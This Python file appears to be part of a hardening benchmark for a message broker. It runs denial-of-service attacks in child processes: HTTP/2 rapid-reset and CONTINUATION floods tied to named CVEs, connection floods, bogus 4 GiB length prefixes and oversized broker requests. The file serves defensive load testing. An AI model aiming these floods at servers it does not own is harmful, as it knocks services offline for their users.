"""The attacks of hardening_bench's gRPC cases (issue 39), each a loop run in a process of its own
(so its work does not slow the measuring client's event loop) until told to stop. They play the
hostile peers the issue found: preface-only connections, HTTP/2 rapid resets and CONTINUATION
floods, bodies that are not protobuf, length prefixes of gigabytes, batch acks of a 1 MiB bitset
and peeks of a million messages (the last two on the broker's remoting port)."""

from __future__ import annotations

import base64
import contextlib
import multiprocessing as mp
import resource
import socket
import struct
import time
from collections.abc import Callable, Iterator
from multiprocessing.synchronize import Event

import grpc
import orjson

from ferromq.protocol.codes import RequestCode as RC
from ferromq.protocol.command import MAX_FRAME_SIZE, RemotingCommand, decode_frame, encode
from ferromq.testing import h2frames as h2

CLIENT = [("x-mq-client-id", "hardening-attacker"), ("x-mq-language", "PYTHON")]


def _host_port(addr: str) -> tuple[str, int]:
    host, port = addr.rsplit(":", 1)
    return host, int(port)


@contextlib.contextmanager
def held_connections(addr: tuple[str, int], count: int, hello: bytes = b"") -> Iterator[None]:
    """Up to `count` connections to `addr` from 127.0.0.2 (until one is refused), each sending
    `hello`, held for the time of the block."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
    socks = []
    try:
        for _ in range(count):
            s = socket.socket()
            s.bind(("127.0.0.2", 0))
            try:
                s.connect(addr)
                s.sendall(hello)
            except OSError:
                s.close()
                break
            socks.append(s)
        yield
    finally:
        for s in socks:
            s.close()


def preface_flood(endpoint: str, remoting: str, topic: str, stop: Event, count: int = 2000) -> None:
    """`count` connections that send the preface and SETTINGS, held until the stop."""
    with held_connections(_host_port(endpoint), count, h2.PREFACE + h2.settings()):
        stop.wait()


def _reconnecting(endpoint: str, stop: Event, attack: Callable[[socket.socket], None]) -> None:
    while not stop.is_set():
        try:
            with h2.connect(endpoint) as s:
                attack(s)
        except OSError:
            time.sleep(0.01)


def rapid_reset(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """Streams opened and reset at once (CVE-2023-44487), 500 a write, until the server closes."""
    pairs = b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS, sid, h2.call_headers("QueryRoute"))
        + h2.frame(h2.RST_STREAM, 0, sid, struct.pack(">I", h2.CANCEL))
        for sid in range(1, 1000, 2)
    )
    _reconnecting(endpoint, stop, lambda s: h2.send_until_closed(s, pairs, 200))


def continuation_flood(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """A header block that never ends (CVE-2024-27316), until the server closes."""
    block = h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-junk", "a" * 16_000))

    def attack(s: socket.socket) -> None:
        s.sendall(h2.frame(h2.HEADERS, 0, 1, h2.call_headers("QueryRoute")))
        h2.send_until_closed(s, block, 8192)

    _reconnecting(endpoint, stop, attack)


def not_protobuf(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """SendMessage calls whose body is not protobuf, one after another."""
    with grpc.insecure_channel(endpoint) as ch:
        call = ch.unary_unary(h2.SERVICE + "SendMessage")
        while not stop.is_set():
            with contextlib.suppress(grpc.RpcError):
                call(b"\xff" * 4096, metadata=CLIENT, timeout=5)


def huge_prefix(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """SendMessage calls whose message says it is 4 GiB long, ended after 100 bytes."""

    def attack(s: socket.socket) -> None:
        for sid in range(1, 2**20, 2):
            if stop.is_set():
                return
            s.sendall(
                h2.frame(h2.HEADERS, h2.END_HEADERS, sid, h2.call_headers("SendMessage", **dict(CLIENT)))
                + h2.frame(h2.DATA, h2.END_STREAM, sid, b"\x00" + struct.pack(">I", 0xFFFFFFF0) + b"x" * 100)
            )
            _, closed = h2.read_frames(s, 0.05)
            if closed:
                return

    _reconnecting(endpoint, stop, attack)


def _remoting_calls(remoting: str, stop: Event, request: Callable[[int], RemotingCommand]) -> None:
    """One request at a time on one connection (again after a failure), until the stop."""
    opaque = 0
    while not stop.is_set():
        try:
            with socket.create_connection(_host_port(remoting), timeout=30) as s:
                buf = bytearray()
                while not stop.is_set():
                    opaque += 1
                    s.sendall(encode(request(opaque)))
                    while decode_frame(buf, MAX_FRAME_SIZE) is None:
                        chunk = s.recv(1 << 20)
                        if not chunk:
                            raise ConnectionError
                        buf += chunk
                    buf.clear()
        except OSError:
            time.sleep(0.05)


def batch_ack_bitset(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """BATCH_ACK_MESSAGE with a 1 MiB all-ones bitSet (a body of 1.3 MiB)."""
    entry = {
        "c": "HardeningG",
        "t": topic,
        "r": "0",
        "q": 0,
        "rq": 0,
        "so": 0,
        "pt": int(time.time() * 1000),
        "it": 60_000,
        "b": base64.b64encode(b"\xff" * (1 << 20)).decode(),
    }
    body = orjson.dumps({"acks": [entry]})
    _remoting_calls(remoting, stop, lambda n: RemotingCommand(RC.BATCH_ACK_MESSAGE, opaque=n, body=body))


def peek_million(endpoint: str, remoting: str, topic: str, stop: Event) -> None:
    """PEEK_MESSAGE of every queue with maxMsgNums 1,000,000 over the topic's backlog."""
    ext = {
        "consumerGroup": "HardeningPeek",
        "topic": topic,
        "queueId": "-1",
        "maxMsgNums": "1000000",
        "bornTime": "0",
    }
    _remoting_calls(remoting, stop, lambda n: RemotingCommand(RC.PEEK_MESSAGE, opaque=n, ext=ext))


ATTACKS: dict[str, Callable[..., None]] = {
    "preface-flood": preface_flood,
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "not-protobuf": not_protobuf,
    "huge-prefix": huge_prefix,
    "batch-ack-bitset": batch_ack_bitset,
    "peek-million": peek_million,
}


@contextlib.contextmanager
def attacking(name: str, endpoint: str, remoting: str, topic: str) -> Iterator[None]:
    """Runs attack `name` in a child process for the time of the block ("idle": none)."""
    if name == "idle":
        yield
        return
    ctx = mp.get_context("spawn")
    stop = ctx.Event()
    proc = ctx.Process(target=ATTACKS[name], args=(endpoint, remoting, topic, stop), daemon=True)
    proc.start()
    time.sleep(1.0)  # under way before the measured client starts
    try:
        yield
    finally:
        stop.set()
        proc.join(30)
        if proc.is_alive():
            proc.kill()
            proc.join()
